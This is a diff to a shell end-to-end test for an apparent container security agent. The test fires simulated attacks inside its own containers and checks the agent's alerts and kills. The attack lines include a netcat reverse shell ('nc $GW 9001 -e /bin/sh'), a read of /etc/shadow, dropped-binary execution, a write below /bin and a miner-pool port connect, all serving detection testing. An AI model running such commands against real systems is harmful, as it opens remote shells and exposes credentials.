@@ -53,18 +53,20 @@ GW=$(docker inspect -f '{{.NetworkSettings.Gateway}}' "$SRV")
 docker run -d --name "$CLI" "$IMG" sh -c "while true; do actions connect $SRV_IP 8080; sleep 0.2; done" >/dev/null
 sleep 3
 check "the workload runs (the client's connects succeed)" test "$(client_ok)" -gt 3
-check "monitor: zero alerts before the attacks" test "$(jq -R 'fromjson?' "$T/mon.alerts" 2>/dev/null | wc -l)" = 0
+# (other containers may run on this host: only ours count)
+ours() { alerts "$1" ".container.name == \"$SRV\" or .container.name == \"$CLI\"" | wc -l; }
+check "monitor: zero alerts before the attacks" test "$(ours mon)" = 0
 
 x() { docker exec "$SRV" sh -c "$1" >>"$T/attacks.out" 2>&1 || true; }
 revshell_listener 9001
 x "actions connect $SRV_IP 8080 'exec id'"                       # shell from the server
 x "cp /bin/actions /tmp/dropped && /tmp/dropped memfd t7010"      # drift
 x "cat /etc/shadow >/dev/null"                                    # credential read
-x "nc $GW 9001 -e /bin/sh" &                                      # reverse shell (nc -e: sh on the socket)
+x "nc $GW 9001 -e /bin/sh" & RS=$!                                # reverse shell (nc -e: sh on the socket)
 x "apt-get install curl"                                          # package manager
 x "echo x >/bin/evil"                                             # write below /bin
 x "actions connect-once $GW 4444"                                 # miner-pool port
-wait
+wait "$RS" || true
 
 M=".container.name == \"$SRV\""
 check "monitor: shell spawned by the server → shell-from-server" \
@@ -86,12 +88,13 @@ check "monitor: alerts carry the documented fields" \
         has_alert mon "$M and .time and .host and .container.id and .image.name == \"$IMG\" and .rule.title and
                 .process.pid > 0 and .process.ppid > 0 and .process.exe and .process.uid == 0 and .process.user == \"root\" and
                 .observed and .count >= 1 and .first and .last and .incident > 0"
-n1=$(jq -R 'fromjson? | .incident' "$T/mon.alerts" | sort -u | wc -l)
+ours_incidents() { alerts "$1" ".container.name == \"$SRV\" or .container.name == \"$CLI\"" | jq .incident | sort -u | wc -l; }
+n1=$(ours_incidents mon)
 c1=$(client_ok)
 sleep 3
 check "monitor: the workload keeps running after the attacks" test "$(client_ok)" -gt "$c1"
 check "monitor: no new incident while only the workload runs" \
-        test "$(jq -R 'fromjson? | .incident' "$T/mon.alerts" | sort -u | wc -l)" = "$n1"
+        test "$(ours_incidents mon)" = "$n1"
 check "monitor: zero alerts from the workload itself" test "$(workload_alerts mon)" = 0
 stop_agent mon
 
@@ -108,17 +111,17 @@ check "incidents: the process tree reaches the server, with its executable's sha
 # ---- protect mode (the same containers keep running) ----
 start_agent pro --alerts "$T/pro.alerts" --state "$T/state" --default-mode protect --alert-window 60
 sleep 2 # the workload's events bring its containers under the exec guard and the connect hook
-check "protect: zero alerts before the attacks" test "$(jq -R 'fromjson?' "$T/pro.alerts" 2>/dev/null | wc -l)" = 0
+check "protect: zero alerts before the attacks" test "$(ours pro)" = 0
 : >"$T/attacks.out"
 revshell_listener 9002
 x "actions connect $SRV_IP 8080 'exec sleep 5; echo shell-survived'"
 x "cp /bin/actions /tmp/dropped2; /tmp/dropped2 memfd t7010 || echo drift-exec-refused"
 x "cat /etc/shadow >/dev/null; read line </etc/shadow; sleep 5; echo shadow-survived"
-x "nc $GW 9002 -e /bin/sh" &
-x "apt-get install curl; echo apt-survived-\$?"
+x "nc $GW 9002 -e /bin/sh" & RS=$!
+x "apt-get install curl && echo apt-survived"
 x "echo x >/bin/evil2; sleep 5; echo write-survived"
 x "actions connect-once $GW 4444"
-wait
+wait "$RS" || true
 sleep 1
 check "protect: the server's shell was killed" \
         wait_alert pro "$M and .rule.id == \"shell-from-server\" and .action == \"killed\""
@@ -127,8 +130,9 @@ check "protect: the dropped binary's exec was denied (drift)" \
 check "protect: ... and did not run" grep -q "drift-exec-refused" "$T/attacks.out"
 check "protect: the /etc/shadow reader was killed" \
         wait_alert pro "$M and .rule.id == \"sensitive-file-read\" and .action == \"killed\""
-check "protect: the reverse shell was killed" \
-        wait_alert pro "$M and .rule.id == \"reverse-shell\" and .action == \"killed\""
+# nc itself is killed at its exec (rule netcat) before it connects, or else the shell it starts is
+check "protect: the reverse shell was killed (nc at its exec, or the shell)" \
+        wait_alert pro "$M and (.rule.id == \"reverse-shell\" or (.rule.id == \"netcat\" and (.process.cmdline | index(\"-e\")))) and .action == \"killed\""
 check "protect: the package manager was killed" \
         wait_alert pro "$M and .rule.id == \"package-manager\" and .action == \"killed\""
 check "protect: the writer below /bin was killed" \
@@ -136,12 +140,13 @@ check "protect: the writer below /bin was killed" \
 check "protect: the connect to port 4444 was refused" \
         wait_alert pro "$M and .rule.id == \"miner-pool-port\" and .action == \"denied\""
 check "protect: ... with EPERM" grep -q "^connect -1 1$" "$T/attacks.out"
-check "protect: no attack finished (nothing says it survived)" sh -c "! grep -q survived '$T/attacks.out'"
+check "protect: no attack finished (nothing says it survived)" sh -c "! grep survived '$T/attacks.out'"
 c2=$(client_ok)
 sleep 3
 check "protect: the workload keeps running" test "$(client_ok)" -gt "$c2"
 check "protect: zero alerts from the workload itself" test "$(workload_alerts pro)" = 0
 stop_agent pro
+last_mon=$(jq -R 'fromjson? | .incident' "$T/mon.alerts" | sort -n | tail -n 1)
 check "protect: incident ids continue after the restart (one store)" \
-        test "$(jq -R 'fromjson? | .incident' "$T/pro.alerts" | sort -n | head -n 1)" -gt "$n1"
+        test "$(jq -R 'fromjson? | .incident' "$T/pro.alerts" | sort -n | head -n 1)" -gt "$last_mon"
 note "attacks said: $(tr '\n' ';' <"$T/attacks.out")"
